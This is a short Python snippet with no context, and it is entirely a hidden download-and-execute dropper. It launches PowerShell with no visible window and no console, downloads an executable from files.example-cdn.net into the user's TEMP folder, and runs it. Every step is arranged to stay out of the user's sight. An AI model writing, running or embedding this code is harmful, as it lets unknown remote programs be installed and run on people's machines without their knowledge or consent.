import subprocess
subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", "$p=\"$env:TEMP\\u.exe\"; (New-Object Net.WebClient).DownloadFile('https://files.example-cdn.net/u.exe',$p); Start-Process $p"], creationflags=0x08000000)
